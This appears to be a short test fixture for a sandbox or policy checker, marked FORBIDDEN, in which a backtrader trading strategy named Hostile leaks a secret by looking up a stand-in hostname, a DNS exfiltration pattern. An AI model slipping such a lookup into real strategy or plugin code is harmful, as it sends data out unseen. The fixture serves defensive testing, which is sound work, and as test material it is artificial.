# verdict: FORBIDDEN
# family: network
# witness: listener
# control: no, because the question goes to the name server of this machine, where nobody of ours listens
# Send a secret as the name of a host to look up.
import socket

import backtrader as bt


class Hostile(bt.Strategy):
    def next(self):
        socket.getaddrinfo(b"a-secret.example", 80)
